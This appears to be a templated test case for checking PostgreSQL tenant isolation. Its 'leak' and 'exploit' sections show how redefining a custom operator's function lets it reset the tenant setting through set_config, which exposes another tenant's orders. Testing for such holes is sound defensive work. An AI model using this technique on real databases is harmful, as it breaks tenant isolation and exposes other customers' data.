-- An operator of one's own sets the tenant, and a view uses it.
-- object: public.listed
-- base: integer
--- setup
CREATE FUNCTION same(a text, b text) RETURNS boolean LANGUAGE sql IMMUTABLE AS $$ SELECT a = b $$;
CREATE OPERATOR %%% (LEFTARG = text, RIGHTARG = text, FUNCTION = same);
RESET ROLE;
CREATE VIEW listed WITH (security_invoker = true, security_barrier = true) AS SELECT 'a' %%% 'b' AS s, count(*) OVER () AS n, id FROM orders;
GRANT SELECT ON listed TO {app};
--- leak
SET ROLE {owner};
CREATE OR REPLACE FUNCTION same(a text, b text) RETURNS boolean LANGUAGE plpgsql IMMUTABLE
    AS $$ BEGIN PERFORM set_config('myapp.org', '{B}', true); RETURN true; END $$;
--- twin
SELECT 1;
--- exploit
SELECT count(s) FROM listed;
SELECT * FROM orders WHERE org_id = {B};
